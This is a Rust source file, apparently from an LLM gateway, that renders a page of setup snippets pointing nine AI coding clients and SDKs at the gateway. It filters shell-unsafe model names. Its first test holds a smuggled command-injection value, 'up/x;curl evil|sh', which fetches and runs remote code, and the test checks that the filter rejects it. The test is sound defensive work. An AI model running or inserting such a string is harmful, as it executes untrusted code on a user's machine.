//! Instructions that point each client at this gateway, with the gateway's address.

use maud::{Markup, html};

use crate::Frame;

/// The data for the instructions.
#[derive(Clone, Debug, Default)]
pub struct ConnectView {
    /// The base URL of the clients' listener, without a trailing slash.
    pub base: String,
    /// Whether clients need a key.
    pub keys: bool,
    /// Names that clients can request.
    pub models: Vec<String>,
    /// The gateway's time in RFC 3339; only later requests count as the first one.
    pub now: String,
}

/// A client, with its settings.
struct Client {
    name: &'static str,
    /// The dialect that it speaks.
    dialect: &'static str,
    /// The name by which the gateway knows its requests.
    program: &'static str,
    guide: &'static str,
    lines: fn(&Values<'_>) -> String,
}

/// The values to insert into the lines.
struct Values<'a> {
    base: &'a str,
    key: &'a str,
    model: &'a str,
}

/// Where the guide is read. The page itself loads nothing from there.
const GUIDE: &str = concat!(env!("CARGO_PKG_REPOSITORY"), "/blob/main/docs/guide/");

const CLIENTS: [Client; 9] = [
    Client {
        name: "Claude Code",
        dialect: "anthropic-messages",
        program: "Claude Code",
        guide: "claude-code",
        lines: |with| {
            format!(
                "export ANTHROPIC_BASE_URL={}\nexport ANTHROPIC_AUTH_TOKEN={}\n\
                 export ANTHROPIC_MODEL={}\nclaude",
                with.base, with.key, with.model
            )
        },
    },
    Client {
        name: "Codex",
        dialect: "openai-responses",
        program: "Codex",
        guide: "codex",
        lines: |with| {
            format!(
                "# ~/.codex/config.toml\nmodel = \"{}\"\nmodel_provider = \"majordomo\"\n\n\
                 [model_providers.majordomo]\nname = \"majordomo\"\nbase_url = \"{}/v1\"\n\
                 wire_api = \"responses\"\nenv_key = \"MAJORDOMO_KEY\"\n\n\
                 # in the shell\nexport MAJORDOMO_KEY={}\ncodex",
                with.model, with.base, with.key
            )
        },
    },
    Client {
        name: "Gemini CLI",
        dialect: "gemini",
        program: "Gemini CLI",
        guide: "gemini-cli",
        lines: |with| {
            format!(
                "export GOOGLE_GEMINI_BASE_URL={}\nexport GEMINI_API_KEY={}\ngemini -m {}",
                with.base, with.key, with.model
            )
        },
    },
    Client {
        name: "opencode",
        dialect: "openai-chat",
        program: "opencode",
        guide: "opencode",
        lines: |with| {
            format!(
                "{{\n  \"$schema\": \"https://opencode.ai/config.json\",\n  \"provider\": {{\n    \
                 \"majordomo\": {{\n      \"npm\": \"@ai-sdk/openai-compatible\",\n      \
                 \"options\": {{ \"baseURL\": \"{}/v1\", \"apiKey\": \"{}\" }},\n      \
                 \"models\": {{ \"{}\": {{}} }}\n    }}\n  }}\n}}",
                with.base, with.key, with.model
            )
        },
    },
    Client {
        name: "Qwen Code",
        dialect: "openai-chat",
        program: "Qwen Code",
        guide: "README",
        lines: |with| {
            format!(
                "export OPENAI_BASE_URL={}/v1\nexport OPENAI_API_KEY={}\nexport OPENAI_MODEL={}\nqwen",
                with.base, with.key, with.model
            )
        },
    },
    Client {
        name: "aider",
        dialect: "openai-chat",
        program: "LiteLLM",
        guide: "aider",
        lines: |with| {
            format!(
                "export OPENAI_API_BASE={}/v1\nexport OPENAI_API_KEY={}\naider --model openai/{}",
                with.base, with.key, with.model
            )
        },
    },
    Client {
        name: "Open WebUI",
        dialect: "openai-chat",
        program: "aiohttp",
        guide: "open-webui",
        lines: |with| {
            format!(
                "export OPENAI_API_BASE_URL={}/v1\nexport OPENAI_API_KEY={}\nopen-webui serve",
                with.base, with.key
            )
        },
    },
    Client {
        name: "OpenAI SDK (Python)",
        dialect: "openai-chat",
        program: "OpenAI SDK (Python)",
        guide: "sdks",
        lines: |with| {
            format!(
                "from openai import OpenAI\n\nclient = OpenAI(base_url=\"{}/v1\", api_key=\"{}\")\n\
                 reply = client.chat.completions.create(\n    model=\"{}\",\n    \
                 messages=[{{\"role\": \"user\", \"content\": \"hello\"}}],\n)\n\
                 print(reply.choices[0].message.content)",
                with.base, with.key, with.model
            )
        },
    },
    Client {
        name: "Anthropic SDK (Python)",
        dialect: "anthropic-messages",
        program: "Anthropic SDK (Python)",
        guide: "sdks",
        lines: |with| {
            format!(
                "from anthropic import Anthropic\n\nclient = Anthropic(base_url=\"{}\", api_key=\"{}\")\n\
                 reply = client.messages.create(\n    model=\"{}\",\n    max_tokens=200,\n    \
                 messages=[{{\"role\": \"user\", \"content\": \"hello\"}}],\n)\n\
                 print(reply.content[0].text)",
                with.base, with.key, with.model
            )
        },
    },
];

/// Renders the instructions.
pub fn connect(frame: &Frame, view: &ConnectView) -> String {
    let values = Values {
        base: &view.base,
        key: if view.keys { "YOUR-KEY" } else { "any" },
        model: view
            .models
            .iter()
            .find(|name| is_plain(name))
            .map_or("demo/text", String::as_str),
    };
    let content = html! {
        h1 { "Connect" }
        p {
            "This gateway listens on " code { (view.base) } ". "
            @if view.keys {
                "Replace " code { "YOUR-KEY" } " with a client key; "
                @if frame.viewer.may_change { a href="/keys" { "Keys" } " or " }
                code { "majordomo key new NAME" } " creates one."
            } @else {
                "It needs no key; clients that insist on one may send any."
            }
        }
        @if view.models.len() > 1 {
            details {
                summary { "Models that clients can ask for" }
                ul.plain { @for model in &view.models { li { code { (model) } } } }
            }
        }
        div.clients.cards data-since=(view.now) { @for client in &CLIENTS { (card(client, &values)) } }
    };
    frame.document("Connect", &content)
}

/// Whether a name can be pasted into a shell unquoted: a provider chooses the names of its
/// models.
fn is_plain(name: &str) -> bool {
    name.chars()
        .all(|c| c.is_ascii_alphanumeric() || "-_./:@+".contains(c))
}

fn card(client: &Client, values: &Values<'_>) -> Markup {
    let lines = (client.lines)(values);
    html! {
        section.card data-dialect=(client.dialect) data-program=(client.program) {
            h2 { (client.name) }
            pre tabindex="0" { code { (lines) } }
            p.row {
                button type="button" data-copy=(lines) hidden { "Copy" }
                span.waiting hidden {
                    "waiting for its first request…"
                }
            }
            p.hint {
                a href={ (GUIDE) (client.guide) ".md" } rel="noreferrer" { "Guide to " (client.name) }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::Screen;

    #[test]
    fn a_name_that_a_shell_would_run_is_not_offered() {
        let view = ConnectView {
            models: vec!["up/x;curl evil|sh".to_owned(), "up/fine".to_owned()],
            ..ConnectView::default()
        };
        let html = connect(&Frame::new(Screen::Connect, "1"), &view);
        assert!(html.contains("ANTHROPIC_MODEL=up/fine"), "{html}");
    }

    #[test]
    fn every_card_has_this_gateways_address() {
        let view = ConnectView {
            base: "http://gateway.example:4100".to_owned(),
            keys: true,
            models: vec!["coder".to_owned()],
            now: String::new(),
        };
        for client in &CLIENTS {
            let values = Values {
                base: &view.base,
                key: "YOUR-KEY",
                model: "coder",
            };
            let lines = (client.lines)(&values);
            assert!(lines.contains(&view.base), "{}", client.name);
            assert!(lines.contains("YOUR-KEY"), "{}", client.name);
        }
        let html = connect(&Frame::new(Screen::Connect, "1"), &view);
        assert_eq!(html.matches("class=\"card\"").count(), CLIENTS.len());
    }
}
